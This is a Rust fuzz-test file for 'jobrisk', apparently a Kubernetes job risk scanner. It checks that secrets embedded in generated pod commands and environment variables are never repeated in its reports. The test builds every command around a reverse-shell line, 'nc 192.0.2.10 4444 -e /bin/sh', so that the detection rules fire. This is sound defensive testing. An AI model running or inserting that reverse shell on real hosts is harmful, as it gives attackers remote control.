//! A secret that nobody else knows, in a place where secrets stand: nothing that is written repeats it.
//!
//! The first byte of the input chooses how the secret is written, the second where. The rest is what stands around it,
//! separated by zero bytes: words in front of it, and the script before and behind it.

use jobrisk::normalize::{Limits, parse};
use jobrisk::report::report;
use jobrisk::workload::decode::from_json;
use jobrisk::workload::{Kind, Workload};
use serde_json::{Value, json};

use super::records::whole;
use super::{invariants, manifest};

/// How secrets are written; `@` stands for the secret. Each is a piece of a script.
pub const SHAPES: [&str; 25] = [
    "--password=@",
    "--password @",
    "--token '@'",
    "DB_PASSWORD=@",
    "export API_TOKEN=\"@\";",
    "-d '{\"api_key\": \"@\"}'",
    "https://user:@@host.example.test/x",
    "postgres://admin:@@db/x",
    "-H 'Authorization: Bearer @'",
    "-H \"X-Auth-Token: @\"",
    "mysql -uroot -p@ db",
    "curl -u admin:@ http://192.0.2.1/",
    "sshpass -p @ ssh host",
    "AWS_SECRET_ACCESS_KEY=@ aws s3 ls",
    "--password='a \"; @'",
    "--token=\"a ' \\\" @\"",
    "curl -u \"me:a b@\" http://192.0.2.1/",
    "-H 'X-Api-Key: a; @'",
    "redis-cli -a @ ping",
    "docker login -u me -p @",
    "ldapsearch -w @",
    "openssl enc -d -pass pass:@",
    "PASSWORD='a b;@' env",
    "$SETTING",
    "${SETTING}",
];

/// Where the script stands.
pub const PLACES: u8 = 6;

const WITHOUT_SHELL: u8 = 3;
const SCRIPT_IN_ENVIRONMENT: u8 = 4;
const IN_ENVIRONMENT: u8 = 5;

/// What makes rules show the command that the secret stands in.
const ATTACK: &str = "nc 192.0.2.10 4444 -e /bin/sh";

/// One secret.
pub fn run(input: &[u8]) {
    let [shape, place, text @ ..] = input else { return };
    let secret = secret(input);
    let shape = SHAPES[usize::from(*shape) % SHAPES.len()].replacen('@', &secret, 1);
    let text = String::from_utf8_lossy(text);
    let mut parts = text.splitn(3, '\0');
    let mut part = || parts.next().unwrap_or_default();
    // What opens a quote in front of it would tear the shape of the secret apart.
    let (near, before, after) = (words(part()), part().replace(['\'', '"', '`', '\\'], ""), part());
    let command = format!("{ATTACK} {near} {shape}");
    let script = format!("{before}\n{command}\n{after}");
    let kind = if *place % 2 == 0 { Kind::Job } else { Kind::CronJob };
    let object = whole(kind, "n", &pod(*place % PLACES, &command, &script, &secret));
    let bytes = serde_json::to_vec(&object).unwrap();
    // A part is too much, too: excerpts are cut.
    let part = &secret[..6];
    if text.contains(part) {
        return;
    }

    let workload = Workload::from_object(kind, &from_json(&bytes).unwrap());
    invariants::judge(workload.clone());
    let written = report(&jobrisk::assess::assess_workload(workload)).report;
    let line = invariants::finding_line(kind, &written);
    let said = [
        ("report".to_owned(), serde_json::to_string(&written).unwrap()),
        ("finding log".to_owned(), line),
        manifest::output(&manifest::results(&bytes), text.len()),
    ];
    for (what, text) in said {
        assert!(!text.contains(part), "{what} repeats {secret} of {script:?}: {text}");
    }
}

/// Ordinary words, of the same command.
fn words(text: &str) -> String {
    let is_ordinary = |character: char| character.is_ascii_alphanumeric() || " -_.,:/=%+".contains(character);
    text.chars().filter(|character| is_ordinary(*character)).collect()
}

fn pod(place: u8, command: &str, script: &str, secret: &str) -> Value {
    let shell = json!(["/bin/sh", "-c", script]);
    let mut env = Vec::new();
    // Values of the environment never appear: where it is not needed there, it must not help.
    if place == IN_ENVIRONMENT || script.contains("SETTING") {
        env.push(json!({"name": "SETTING", "value": secret}));
    }
    let mut container = json!({"name": "c", "image": "alpine"});
    match place {
        0 => container["command"] = shell,
        1 => container["args"] = shell,
        2 => container["lifecycle"] = json!({"preStop": {"exec": {"command": shell}}}),
        WITHOUT_SHELL => {
            let words = parse(command, &Limits::default()).commands.swap_remove(0).words;
            container["command"] = words.into_iter().map(|word| word.text).collect();
        }
        SCRIPT_IN_ENVIRONMENT => container["command"] = json!(["/bin/bash", "-lc", "$(SCRIPT)"]),
        _ => {
            container["command"] = json!(["sh", "-c", format!("{ATTACK} \"$SETTING\" $(SETTING)\n{script}")]);
        }
    }
    if place == SCRIPT_IN_ENVIRONMENT {
        env.push(json!({"name": "SCRIPT", "value": script}));
    }
    container["env"] = env.into();
    json!({"containers": [container]})
}

/// Made of the input, so that no text around it can hold it by design; without vowels, so that none does by chance.
fn secret(input: &[u8]) -> String {
    const LETTERS: &[u8] = b"bcdfghjklmnpqrtvwxz";
    let mut state = 0xcbf2_9ce4_8422_2325_u64;
    for byte in input {
        state = (state ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3);
    }
    let mut text = String::new();
    for _ in 0..12 {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        text.push(char::from(LETTERS[usize::try_from(state >> 33).unwrap() % LETTERS.len()]));
    }
    text
}
